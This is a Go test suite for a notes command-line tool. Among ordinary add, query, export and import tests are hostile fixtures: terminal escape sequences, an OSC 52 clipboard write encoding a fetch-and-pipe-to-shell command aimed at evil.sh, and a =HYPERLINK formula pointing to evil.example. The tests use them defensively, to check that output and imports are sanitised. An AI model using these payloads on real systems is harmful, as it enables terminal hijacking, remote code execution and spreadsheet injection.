package main

import (
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/briefing-dev/briefing/notes"
	"github.com/briefing-dev/briefing/notes/sqlite"
)

// TestNotesCommands runs the notes subcommands as a user would, against a
// real database in a temporary --data folder.
func TestNotesCommands(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	const sample = "2026-05-21-saltmarsh-desalination.md"

	r := runBin(t, nil, "notes", "add", sample, "--data", data, "--section", "why", "--quote", "brine", "Check the brine figures")
	if r.code != 0 || len(strings.TrimSpace(r.stdout)) != 36 {
		t.Fatalf("add: code %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	id := strings.TrimSpace(r.stdout)

	dir := t.TempDir()
	path := filepath.Join(dir, "port.md")
	writeFile(t, path, portBrief)
	if r := runBin(t, nil, "notes", "add", path, "--data", data, "Raise on Monday"); r.code != 0 {
		t.Fatalf("add by path: %d %s", r.code, r.stderr)
	}

	r = runBin(t, nil, "notes", "list", "--data", data)
	if r.code != 0 || !strings.Contains(r.stdout, id) || !strings.Contains(r.stdout, "Raise on Monday") {
		t.Fatalf("list: %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = runBin(t, nil, "notes", "list", "--data", data, "--query", "BRINE")
	if strings.Count(r.stdout, "\n") != 1 || !strings.Contains(r.stdout, id) {
		t.Fatalf("list --query:\n%s", r.stdout)
	}
	// The query language: fields about the note's brief and section.
	r = runBin(t, nil, "notes", "list", "--data", data, "--query", "section:why tag:water")
	if r.code != 0 || strings.Count(r.stdout, "\n") != 1 || !strings.Contains(r.stdout, id) {
		t.Fatalf("list --query with fields: %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = runBin(t, nil, "notes", "list", "--data", data, "--query", "-brine")
	if strings.Count(r.stdout, "\n") != 1 || !strings.Contains(r.stdout, "Raise on Monday") {
		t.Fatalf("list --query -brine:\n%s", r.stdout)
	}
	r = runBin(t, nil, "notes", "list", "--data", data, "--query", "title:(")
	if r.code != 2 || !strings.Contains(r.stderr, "query: col") {
		t.Fatalf("malformed query: %d %q", r.code, r.stderr)
	}
	r = runBin(t, nil, "notes", "list", "--data", data, "--json")
	var exp notes.JSONExport
	if err := json.Unmarshal([]byte(r.stdout), &exp); err != nil || len(exp.Notes) != 2 {
		t.Fatalf("list --json: %v\n%s", err, r.stdout)
	}

	r = runBin(t, nil, "notes", "export", "--format", "md", "--data", data)
	if !strings.Contains(r.stdout, "## Saltmarsh Bay") || !strings.Contains(r.stdout, "> brine") || !strings.Contains(r.stdout, "Check the brine figures") {
		t.Fatalf("export md:\n%s", r.stdout)
	}
	r = runBin(t, nil, "notes", "export", "--format", "csv", "--data", data, "--query", "monday")
	if strings.Count(strings.TrimSpace(r.stdout), "\n") != 1 || !strings.Contains(r.stdout, "Raise on Monday") {
		t.Fatalf("export csv --query:\n%s", r.stdout)
	}
	out := filepath.Join(dir, "notes.json")
	if r := runBin(t, nil, "notes", "export", "--format", "json", "-o", out, "--data", data); r.code != 0 || !strings.Contains(r.stderr, out) {
		t.Fatalf("export -o: %d %s", r.code, r.stderr)
	}

	// Import into another database: twice adds nothing the second time.
	other := t.TempDir()
	if r := runBin(t, nil, "notes", "import", out, "--data", other); r.code != 0 || !strings.Contains(r.stdout, "imported 2 notes") {
		t.Fatalf("import: %d %q %q", r.code, r.stdout, r.stderr)
	}
	if r := runBin(t, nil, "notes", "import", out, "--data", other); r.code != 0 || !strings.Contains(r.stdout, "imported 0 notes") {
		t.Fatalf("import twice: %d %q", r.code, r.stdout)
	}

	if r := runBin(t, nil, "notes", "rm", id, "--data", data); r.code != 0 {
		t.Fatalf("rm: %d %s", r.code, r.stderr)
	}
	if r := runBin(t, nil, "notes", "list", "--data", data); strings.Contains(r.stdout, id) {
		t.Fatalf("rm left the note:\n%s", r.stdout)
	}
}

func TestNotesExitCodes(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	for _, c := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"notes"}, 2, "no command"},
		{[]string{"notes", "bogus"}, 2, "unknown command"},
		{[]string{"notes", "add", "x"}, 2, "give a BRIEF"},
		{[]string{"notes", "add", "no-such-brief", "text"}, 1, "no such file"},
		{[]string{"notes", "add", "2026-05-21-saltmarsh-desalination.md", "--section", "nope", "text"}, 1, "no section"},
		{[]string{"notes", "add", "2026-05-21-saltmarsh-desalination.md", "--quote", "not in the text at all", "text"}, 1, "quote is not in"},
		{[]string{"notes", "rm", "no-such-id"}, 1, "no note with ID no-such-id"},
		{[]string{"notes", "export", "--format", "pdf"}, 2, "unknown format"},
		{[]string{"notes", "import", "/no/such/file.json"}, 1, "no such file"},
		{[]string{"notes", "list", "--bogus"}, 2, "flag provided but not defined"},
	} {
		r := runBin(t, nil, append(c.args, "--data", data)...)
		if r.code != c.code || !strings.Contains(r.stderr, c.want) {
			t.Errorf("%v: code %d stderr %q, want %d and %q", c.args, r.code, r.stderr, c.code, c.want)
		}
	}
	for _, args := range [][]string{{"notes", "--help"}, {"notes", "add", "--help"}, {"help", "notes"}} {
		if r := runBin(t, nil, args...); r.code != 0 || !strings.Contains(r.stdout, "briefing notes COMMAND") {
			t.Errorf("%v: code %d\n%s", args, r.code, r.stdout)
		}
	}
}

// Notes are untrusted text too (imports, SSH sessions): what the notes
// commands print never carries a control sequence, and the JSON export
// still imports back to the exact text.
func TestNotesOutputIsSafe(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	const sample = "2026-05-21-saltmarsh-desalination.md"
	evil := "evil \x1b]0;PWN\x07 \x1b[2J note \u009b31m \u202eright-to-left x"
	if r := runBin(t, nil, "notes", "add", sample, "--data", data, evil); r.code != 0 {
		t.Fatalf("add: %d %s", r.code, r.stderr)
	}
	for _, args := range [][]string{
		{"notes", "list"},
		{"notes", "list", "--json"},
		{"notes", "export", "--format", "md"},
		{"notes", "export", "--format", "csv"},
		{"notes", "export", "--format", "json"},
	} {
		r := runBin(t, nil, append(args, "--data", data)...)
		if r.code != 0 {
			t.Fatalf("%v: %d %s", args, r.code, r.stderr)
		}
		if bad := unsafeTerminal(r.stdout, false); bad != "" {
			t.Errorf("%v prints %s:\n%q", args, bad, r.stdout)
		}
		if !strings.Contains(r.stdout, "evil") {
			t.Errorf("%v lost the note:\n%s", args, r.stdout)
		}
	}
	// The JSON export is data: imported elsewhere, the text is exact.
	out := filepath.Join(t.TempDir(), "notes.json")
	if r := runBin(t, nil, "notes", "export", "--format", "json", "-o", out, "--data", data); r.code != 0 {
		t.Fatalf("export -o: %d %s", r.code, r.stderr)
	}
	other := t.TempDir()
	if r := runBin(t, nil, "notes", "import", out, "--data", other); r.code != 0 {
		t.Fatalf("import: %d %s", r.code, r.stderr)
	}
	s, err := sqlite.Open(notes.DefaultPath(other))
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	list, err := s.AllNotes(context.Background(), notes.LocalOwner())
	if err != nil || len(list) != 1 || list[0].Body != evil {
		t.Fatalf("imported %+v, %v; want the exact body %q", list, err, evil)
	}
}

// `notes import` drops and changes nothing without a word: a file it
// cannot take whole is refused with nothing imported and says why; what
// it reads otherwise than written is a counted warning on stderr.
func TestNotesImportChecks(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	const sample = "2026-05-21-saltmarsh-desalination.md"
	if r := runBin(t, nil, "notes", "add", sample, "--data", data, "Check the brine figures"); r.code != 0 {
		t.Fatalf("add: %d %s", r.code, r.stderr)
	}
	dir := t.TempDir()
	export := filepath.Join(dir, "notes.json")
	if r := runBin(t, nil, "notes", "export", "--format", "json", "-o", export, "--data", data); r.code != 0 {
		t.Fatalf("export: %d %s", r.code, r.stderr)
	}
	good := readFile(t, export)
	var exp notes.JSONExport
	if err := json.Unmarshal([]byte(good), &exp); err != nil || len(exp.Notes) != 1 {
		t.Fatalf("export: %v\n%s", err, good)
	}
	// variant is the export with its one note changed by edit.
	variant := func(edit func(n map[string]any)) string {
		var doc map[string]any
		if err := json.Unmarshal([]byte(good), &doc); err != nil {
			t.Fatal(err)
		}
		edit(doc["notes"].([]any)[0].(map[string]any))
		b, err := json.Marshal(doc)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	osc := "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]0;pwned\x07\x1b[2J"
	refused := []struct{ name, file, want string }{
		{"two exports", good + good, "a second export begins"},
		{"notes null", `{"format":"briefing-notes","version":1,"notes":null}`, `no "notes" list`},
		{"hostile id", variant(func(n map[string]any) { n["id"] = osc }), "is not a note ID"},
		{"formula kind", variant(func(n map[string]any) {
			n["section"] = map[string]any{"kind": `=HYPERLINK("http://evil.example","x")`, "index": 0}
		}), "section kind"},
		{"date out of range", variant(func(n map[string]any) { n["created"] = "9999-12-31T00:00:00Z" }), "created 9999-12-31"},
		{"one id, two texts", strings.Replace(good, `"notes": [`, `"notes": [`+mustJSON(t, exp.Notes[0], "other text")+",", 1), "have the same id"},
	}
	for _, c := range refused {
		other := t.TempDir()
		path := filepath.Join(dir, strings.ReplaceAll(c.name, " ", "-")+".json")
		writeFile(t, path, c.file)
		r := runBin(t, nil, "notes", "import", path, "--data", other)
		if r.code != 1 || !strings.Contains(r.stderr, c.want) || !strings.Contains(r.stderr, "nothing was imported") {
			t.Errorf("%s: code %d, stderr %q; want 1 and %q", c.name, r.code, r.stderr, c.want)
		}
		if bad := unsafeTerminal(r.stderr, false); bad != "" {
			t.Errorf("%s: the error prints %s: %q", c.name, bad, r.stderr)
		}
		if r := runBin(t, nil, "notes", "list", "--data", other); strings.TrimSpace(r.stdout) != "" {
			t.Errorf("%s: a refused import stored:\n%s", c.name, r.stdout)
		}
	}

	warned := []struct{ name, file, warn string }{
		{"byte order mark", "\xef\xbb\xbf" + good, "byte order mark, which was skipped"},
		{"listed twice", strings.Replace(good, `"notes": [`, `"notes": [`+mustJSON(t, exp.Notes[0], "")+",", 1), "1 note was listed again"},
	}
	for _, c := range warned {
		other := t.TempDir()
		path := filepath.Join(dir, strings.ReplaceAll(c.name, " ", "-")+".json")
		writeFile(t, path, c.file)
		r := runBin(t, nil, "notes", "import", path, "--data", other)
		if r.code != 0 || !strings.Contains(r.stdout, "imported 1 notes") || !strings.Contains(r.stderr, "warning: ") ||
			!strings.Contains(r.stderr, c.warn) {
			t.Errorf("%s: code %d, stdout %q, stderr %q; want 1 imported and the warning %q", c.name, r.code, r.stdout, r.stderr, c.warn)
		}
		if r := runBin(t, nil, "notes", "list", "--data", other); !strings.Contains(r.stdout, "Check the brine figures") {
			t.Errorf("%s: the note is not there:\n%s", c.name, r.stdout)
		}
		// A second import adds nothing and says the note was there.
		if r := runBin(t, nil, "notes", "import", path, "--data", other); !strings.Contains(r.stdout, "imported 0 notes (1 already there)") {
			t.Errorf("%s: second import: %q", c.name, r.stdout)
		}
	}
}

// mustJSON is note n as a JSON value, its body replaced when body is set.
func mustJSON(t *testing.T, n notes.JSONNote, body string) string {
	t.Helper()
	if body != "" {
		n.Body = body
	}
	b, err := json.Marshal(n)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// A database written before imports were checked may hold a note whose id
// and section kind carry a clipboard write, a title change, a screen clear
// and a spreadsheet formula. Exporting it puts none of that on the
// terminal or live in a spreadsheet, in any format.
func TestNotesExportOfHostileRows(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	const sample = "2026-05-21-saltmarsh-desalination.md"
	if r := runBin(t, nil, "notes", "add", sample, "--data", data, "a fine note"); r.code != 0 {
		t.Fatalf("add: %d %s", r.code, r.stderr)
	}
	osc := "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]0;pwned\x07\x1b[2J"
	db, err := sql.Open("sqlite", notes.DefaultPath(data))
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range [][2]string{{osc + "id", "lead"}, {`=HYPERLINK("http://evil.example","x")`, `=HYPERLINK("http://evil.example","y")`}} {
		if _, err := db.Exec(`INSERT INTO notes (id, owner, brief_id, section_kind, body, created, updated)
			VALUES (?, ?, ?, ?, 'old row', 1, 1)`, row[0], notes.LocalOwner(), sample, row[1]); err != nil {
			t.Fatal(err)
		}
	}
	db.Close()
	for _, format := range []string{"md", "csv", "json"} {
		r := runBin(t, nil, "notes", "export", "--format", format, "--data", data)
		if r.code != 0 || strings.Count(r.stdout, "old row") != 2 {
			t.Fatalf("%s: %d %q\n%s", format, r.code, r.stderr, r.stdout)
		}
		if bad := unsafeTerminal(r.stdout, false); bad != "" {
			t.Errorf("%s export prints %s:\n%q", format, bad, r.stdout)
		}
		if format != "csv" {
			continue
		}
		rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
		if err != nil || len(rows) != 4 {
			t.Fatalf("CSV: %q, %v", rows, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("CSV column %s is a live formula: %q", rows[0][i], cell)
				}
			}
		}
	}
	if r := runBin(t, nil, "notes", "list", "--data", data); r.code != 0 || unsafeTerminal(r.stdout, false) != "" {
		t.Errorf("list: %d %q", r.code, r.stdout)
	}
}

// `notes rm` takes a unique start of an ID; errors carry one prefix each
// (no "notes rm: …: notes: delete note: note not found").
func TestNotesRmPrefixAndMessages(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	const sample = "2026-05-21-saltmarsh-desalination.md"
	var ids []string
	for range 2 {
		r := runBin(t, nil, "notes", "add", sample, "--data", data, "a note")
		if r.code != 0 {
			t.Fatalf("add: %d %s", r.code, r.stderr)
		}
		ids = append(ids, strings.TrimSpace(r.stdout))
	}
	r := runBin(t, nil, "notes", "rm", "--data", data, "")
	if r.code != 2 {
		t.Errorf("rm of an empty ID: exit %d %q", r.code, r.stderr)
	}
	// The shortest start of ids[0] that ids[1] does not share.
	n := 1
	for strings.HasPrefix(ids[1], ids[0][:n]) {
		n++
	}
	if n > 1 {
		r = runBin(t, nil, "notes", "rm", "--data", data, ids[0][:n-1])
		if r.code != 1 || !strings.Contains(r.stderr, "is the start of 2 notes' IDs") {
			t.Errorf("ambiguous prefix: exit %d %q", r.code, r.stderr)
		}
	}
	r = runBin(t, nil, "notes", "rm", "--data", data, strings.ToUpper(ids[0][:max(n, 4)]))
	if r.code != 0 {
		t.Fatalf("rm by prefix: exit %d %q", r.code, r.stderr)
	}
	r = runBin(t, nil, "notes", "list", "--data", data)
	if strings.Contains(r.stdout, ids[0]) || !strings.Contains(r.stdout, ids[1]) {
		t.Fatalf("rm by prefix removed the wrong notes:\n%s", r.stdout)
	}
	r = runBin(t, nil, "notes", "rm", "--data", data, ids[0])
	if r.code != 1 || r.stderr != "briefing: notes rm: no note with ID "+ids[0]+" (see 'briefing notes list')\n" {
		t.Errorf("rm of a deleted note: exit %d %q", r.code, r.stderr)
	}

	// A data folder that cannot be made: the store's own "notes: " once.
	file := filepath.Join(t.TempDir(), "file")
	writeFile(t, file, "x")
	for _, args := range [][]string{
		{"notes", "add", sample, "--data", filepath.Join(file, "d"), "text"},
		{"notes", "list", "--data", file},
		{"list", "--query", "is:starred", "--data", file},
	} {
		r := runBin(t, nil, args...)
		if r.code != 1 || strings.Count(r.stderr, "notes") > 1+strings.Count(strings.Join(args[:1], " "), "notes") {
			t.Errorf("%v: exit %d, doubled prefix? %q", args, r.code, r.stderr)
		}
	}
}

// `notes add --quote` finds the quote in any section unless --section
// narrows it, and says sections the way the JSON export counts them (from
// 0, the lead first).
func TestNotesAddQuoteAnySection(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	dir := t.TempDir()
	path := filepath.Join(dir, "port.md")
	writeFile(t, path, portBrief)

	r := runBin(t, nil, "notes", "add", path, "--data", data, "--quote", "A vote on Tuesday", "Watch the vote")
	if r.code != 0 {
		t.Fatalf("quote in the last section: exit %d %q", r.code, r.stderr)
	}
	r = runBin(t, nil, "notes", "list", "--json", "--data", data)
	var exp notes.JSONExport
	if err := json.Unmarshal([]byte(r.stdout), &exp); err != nil || len(exp.Notes) != 1 {
		t.Fatalf("list --json: %v\n%s", err, r.stdout)
	}
	if s := exp.Notes[0].Section; s.Index != 2 || s.Kind != "what_happens_next" || exp.Notes[0].Quote != "A vote on Tuesday" {
		t.Errorf("the note went to %+v, quote %q; want section 2 (what happens next)", s, exp.Notes[0].Quote)
	}

	r = runBin(t, nil, "notes", "add", path, "--data", data, "--section", "why", "--quote", "A vote on Tuesday", "x")
	if r.code != 1 || !strings.Contains(r.stderr, "the quote is not in section 1 (Why it matters) of port.md") {
		t.Errorf("--section narrows: exit %d %q", r.code, r.stderr)
	}
	r = runBin(t, nil, "notes", "add", path, "--data", data, "--quote", "nowhere in it", "x")
	if r.code != 1 || !strings.Contains(r.stderr, "the quote is not in any section of port.md") {
		t.Errorf("missing quote: exit %d %q", r.code, r.stderr)
	}
	if r := runBin(t, nil, "notes", "--help"); !strings.Contains(r.stdout, "counted from 0") ||
		strings.Contains(r.stdout, "substring") || strings.Contains(r.stdout, "contain Q") {
		t.Errorf("notes --help does not say how --query and sections work:\n%s", r.stdout)
	}
}

// `notes list/export --query` with title:, source: or tag: resolves a
// note's brief from the PATHs or --lib DIR given, or from its ID read as a
// path from the working folder; when it cannot, a warning says why instead
// of matching nothing in silence.
func TestNotesQueryResolvesBriefs(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "desk", "port.md"), portBrief)
	r := runBin(t, nil, "notes", "add", "desk/port.md", "--lib", dir, "--data", data, "Raise on Monday")
	if r.code != 0 {
		t.Fatalf("add: %d %q", r.code, r.stderr)
	}
	id := strings.TrimSpace(r.stdout)
	for _, q := range []string{"tag:ports", "source:harbour", "title:tariffs", "after:2026-03-01"} {
		for _, where := range [][]string{{"--lib", dir}, {dir}} {
			args := append([]string{"notes", "list", "--data", data, "--query", q}, where...)
			r := runBin(t, nil, args...)
			if r.code != 0 || !strings.Contains(r.stdout, id) || r.stderr != "" {
				t.Errorf("%v: exit %d, stdout %q, stderr %q", args, r.code, r.stdout, r.stderr)
			}
		}
		r := runBin(t, nil, "notes", "export", "--format", "csv", "--data", data, "--query", q, "--lib", dir)
		if r.code != 0 || !strings.Contains(r.stdout, "Raise on Monday") {
			t.Errorf("export %s: exit %d, %q %q", q, r.code, r.stdout, r.stderr)
		}
	}
	// The ID read as a path from the working folder.
	r = runBinIn(t, dir, "notes", "list", "--data", data, "--query", "tag:ports")
	if r.code != 0 || !strings.Contains(r.stdout, id) {
		t.Errorf("from the working folder: exit %d, %q %q", r.code, r.stdout, r.stderr)
	}
	// Nowhere to look: no match, and a warning that says why and what to do.
	r = runBin(t, nil, "notes", "list", "--data", data, "--query", "tag:ports")
	if strings.Contains(r.stdout, id) || !strings.Contains(r.stderr, "the briefs of 1 note were not found") ||
		!strings.Contains(r.stderr, "--lib DIR") {
		t.Errorf("unresolved: exit %d, %q %q", r.code, r.stdout, r.stderr)
	}
	// A word query needs no brief: no warning.
	if r := runBin(t, nil, "notes", "list", "--data", data, "--query", "monday"); r.stderr != "" || !strings.Contains(r.stdout, id) {
		t.Errorf("word query: %q %q", r.stdout, r.stderr)
	}
}
